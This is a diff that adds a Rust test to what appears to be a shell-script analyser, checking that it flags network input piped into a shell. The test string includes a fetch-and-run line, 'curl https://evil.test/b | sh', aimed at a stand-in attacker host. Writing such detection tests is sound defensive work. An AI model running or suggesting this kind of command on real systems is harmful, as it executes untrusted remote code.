@@ -285,3 +285,19 @@ proptest::proptest! {
         run(&text);
     }
 }
+
+#[test]
+fn what_joins_a_condition_ends_no_command() {
+    let script = "curl https://evil.test/a > GET\n\
+        if [[ ! $(cat GET | head -1) == 200 || ! $(cat GET | tail -1) == yes ]]; then exit 1; fi\n\
+        if [[ $(curl https://evil.test/b | sh) == 1 ]]; then touch done; fi";
+    let outcome = run(script);
+    let unnamed = outcome.events.iter().filter(|event| &*event.api == "sh:unknown");
+    assert_eq!(unnamed.count(), 0, "{:?}", outcome.events);
+    let piped = outcome.events.iter().filter(|event| {
+        matches!(event.effect, Effect::Shell | Effect::DynamicCode | Effect::Spawn)
+            && sources(event).contains(&Source::Network)
+    });
+    assert!(piped.count() > 0, "{:?}", outcome.events);
+    assert!(outcome.events.iter().any(|event| role(event, Role::Path).contains("done")));
+}
